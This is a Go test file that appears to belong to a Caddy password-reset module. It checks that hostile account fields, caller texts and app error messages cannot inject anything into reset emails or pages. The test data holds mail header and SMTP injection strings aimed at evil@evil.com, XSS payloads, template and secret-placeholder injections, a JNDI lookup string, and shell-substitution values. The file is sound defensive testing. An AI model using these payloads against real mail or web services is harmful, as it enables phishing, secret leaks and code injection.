package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"github.com/caddy-password-reset/caddy-password-reset/demo"
)

// slogans are texts that an account may have, or a caller or the app may send,
// to put something into a mail or a page: header, command, markup, link,
// placeholder.
var slogans = []string{
	"Bob\r\nBcc: evil@evil.com", "Bob\nBcc:evil@evil.com", "Bob\rX: y", "Bob\r\n\r\n<a href=//evil.com>", "Bob\r\n.\r\nMAIL FROM:<evil@evil.com>\r\n", "Bob\n.\nRCPT TO:<evil@evil.com>", ".", "..", "\r\n.\r\n",
	"=?utf-8?q?evil=2Ecom?=", "=?utf-8?b?ZXZpbC5jb20=?=", "\" <evil@evil.com>, \"", "Bob <evil@evil.com>", "Bob, evil@evil.com", "evil.com", "https://evil.com/", "//evil.com", "evil\u3002com/x", "see evil.com!",
	"<i>Bob</i>", "<script>alert(1)</script>", "<img src=//evil.com/x>", "</title><style>*{}</style>", "&lt;b&gt;", "\"onmouseover=alert(1) x=\"", "javascript:alert(1)", "{{.Link}}", "{{define \"x\"}}", "{link}", "{code}", "$link$", "@ResetCode",
	"\u202eboB\u202c", "B\u200bo\u2060b", "Bob\u2028Bcc: x", "Bob\u0085x", "\ufeffBob", "Bob\x00", "Bob\x1b[2J", strings.Repeat("Bob ", 250), strings.Repeat("B", 2000), strings.Repeat("\U0001f600", 300), "B\u0301\u0301\u0301\u0301ob", "",
	"{env.ATTACK_SECRET}", "{file.LOOT}", "${jndi:ldap://evil.com}", "%s%n%d", "`id`", "$(id)",
}

// What the directory returns is data like what is typed: an address that is
// none gets no mail, and no text of it, of a caller or of the app makes
// anything of a mail or a page but text. The password goes where it is
// configured to go.
func TestTrialAttackMail(t *testing.T) {
	t.Parallel()
	var answers []string // of the directory, to guest-N
	var details atomic.Value
	details.Store("")
	var trapped atomic.Int64
	trap := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { trapped.Add(1) }))
	t.Cleanup(trap.Close)

	guest := func(i int, field, value string) string {
		a := map[string]any{"id": fmt.Sprint(3000 + i), "login": fmt.Sprintf("guest-%d", i), "email": fmt.Sprintf("guest-%d@example.com", i), "name": "Bob", "locale": "en"}
		if field != "" {
			a[field] = value
		}
		b, err := json.Marshal(map[string]any{"accounts": []any{a}})
		if err != nil {
			panic(err)
		}
		return string(b)
	}
	fill := func(text string, i int) string {
		return strings.NewReplacer("{}", fmt.Sprintf("guest-%d@example.com", i), "LOOT", "/tmp/none").Replace(text)
	}
	good := 0 // those whose address is right come first
	for _, field := range []string{"name", "locale"} {
		for _, text := range slogans {
			answers = append(answers, guest(good, field, fill(text, good)))
			good++
		}
	}
	for i := range 6 {
		answers = append(answers, guest(good+i, "", ""))
	}
	good += 6
	known := make(map[int]string) // addresses as they were returned
	for _, text := range append(strays, slogans...) {
		i := len(answers)
		// Of an address that is one, "!" and "%" are letters like others.
		known[i] = strings.ReplaceAll(fill(text, i), "evil.test", "evil.org")
		answers = append(answers, guest(i, "email", known[i]))
	}
	for _, text := range slogans {
		answers = append(answers, guest(len(answers), "id", text), guest(len(answers)+1, "login", text))
	}
	answers = append(answers, `{"accounts":[{"id":"1","login":"x","email":"evil@evil.test"},{"id":"1","login":"x","email":"evil@evil.test"}]}`,
		`{"accounts":[],"accounts":[{"id":"1","login":"x","email":"evil@evil.test"}]}`, `{"accounts":[{"id":"1","login":"x","email":"evil@evil.test","EMAIL":"x"}]}`, `{"accounts":[{"id":"1","login":"x","email":["evil@evil.test"]}]}`,
		`{"accounts":[{"id":1.5,"login":"x","email":"evil@evil.test"}]}`, `{"accounts":[{"id":"1","login":"x","email":"evil@evil.test"}]}x`, `[`, `null`, `{"accounts":null}`, strings.Repeat("[", 70_000), `{"accounts":[`+strings.Repeat(`{"id":"1","login":"x","email":"evil@evil.test"},`, 6)+`{}]}`)

	s := besiege(t, "texts of the directory, of callers and of the app", people(1), func(s *siege) {
		s.Env["ATTACK_SECRET"] = expanded
		s.amend("\tdialect buddy\n", "\tdialect buddy {\n\t\tapp_id "+buddyApp+"\n\t\tshared_secret {env.BUDDY_SECRET}\n\t\tcaller_text\n\t}\n")
		for i := range answers {
			s.backend.know(fmt.Sprintf("guest-%d@example.com", i))
			s.backend.know(known[i])
		}
		s.backend.judge = func(w http.ResponseWriter, path string, h hookEvent) bool {
			var i int
			if n, _ := fmt.Sscanf(h.Data.Login, "guest-%d", &i); h.Type == "account.lookup" && n == 1 && i < len(answers) {
				fmt.Fprint(w, answers[i])
				return true
			}
			if path != demo.ChangedPath {
				return false
			}
			switch detail := details.Load().(string); {
			case detail == "redirect":
				w.Header().Set("Location", trap.URL)
				w.WriteHeader(http.StatusTemporaryRedirect)
			case detail == "page":
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprint(w, "<form>")
			default:
				b, _ := json.Marshal(map[string]string{"detail": detail})
				w.WriteHeader(http.StatusUnprocessableEntity)
				_, _ = w.Write(b)
			}
			return true
		}
	})
	s.each(len(answers), func(i int) {
		s.hit(s.raw("POST", surface, fmt.Sprintf(`{"login":"guest-%d"}`, i), s.visitor()...))
	})
	// A caller's words, of which the mails of their own make nothing else.
	s.each(len(slogans), func(i int) {
		for _, body := range []string{
			`{"userName":"person-0","subject":"s","body":` + quoted(slogans[i]+"\nYour code: @ResetCode") + `}`,
			`{"userName":"person-0","subject":` + quoted(slogans[i]) + `,"body":"@ResetCode"}`,
		} {
			s.hit(s.spell(buddyCall("POST", body)))
		}
	})
	s.untilNone("guests the app was not asked for", func() (left int) {
		asked := s.backend.lookups()
		for i := range answers {
			if !slices.Contains(asked, fmt.Sprintf("guest-%d", i)) {
				left++
			}
		}
		return left
	})
	tokens := make([]string, good)
	for i := range good {
		m := s.mail(fmt.Sprintf("guest-%d@example.com", i), 1)
		tokens[i] = s.token(m)
		for _, text := range []string{m.Subject, m.Text, m.HTML, string(m.Raw)} {
			if strings.Contains(text, "evil") || strings.Contains(text, expanded) || strings.Contains(text, "<i>") || strings.Contains(text, "<script") || strings.ContainsFunc(text, isHidden) {
				s.tr.Violation("the mail for %s:\n%s", answers[i], text)
			}
		}
	}

	// What the app says of a password, on a page and to a program.
	token := tokens[good-1]
	for _, text := range slogans {
		details.Store(text)
		for _, request := range []string{
			s.raw("POST", surface+"/new", "token="+token+"&password=calm+sea+at+night&password_repeat=calm+sea+at+night", s.visitor()...),
			s.raw("POST", surface+"/new", `{"token":"`+token+`","password":"calm sea at night"}`, s.visitor()...),
		} {
			r, ok := s.hit(request)
			if !ok || r.Status != http.StatusUnprocessableEntity && r.Status != http.StatusGone {
				s.tr.Violation("the refusal %+q is answered %d", text, r.Status)
			}
			if strings.Contains(r.Body, "<i>") || strings.Contains(r.Body, "<script>alert") || strings.Contains(r.Body, "<img") || strings.ContainsFunc(r.Body, isHidden) || len(r.Body) > 16<<10 {
				s.tr.Violation("the refusal %+q is shown as %s", text, r.Body)
			}
			if r.Status == http.StatusGone { // a link stands ten refusals
				token, good = tokens[good-2], good-1
			}
		}
	}
	for _, how := range []string{"redirect", "page"} {
		details.Store(how)
		good--
		r, ok := s.hit(s.raw("POST", surface+"/new", `{"token":"`+tokens[good-1]+`","password":"calm sea at night"}`, s.visitor()...))
		if ok && r.Status != http.StatusAccepted {
			s.tr.Violation("when the app answers with a %s, a person is told %d: %s", how, r.Status, r.Body)
		}
	}
	if n := trapped.Load(); n != 0 {
		s.tr.Violation("%d requests went where the app pointed to", n)
	}
	s.unsettled, s.inPaths = true, true
	s.lift()
}

// isHidden tells what no mail or page of ours shows of a foreign text.
func isHidden(r rune) bool {
	return r != '\n' && r != '\t' && r != '\r' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
}
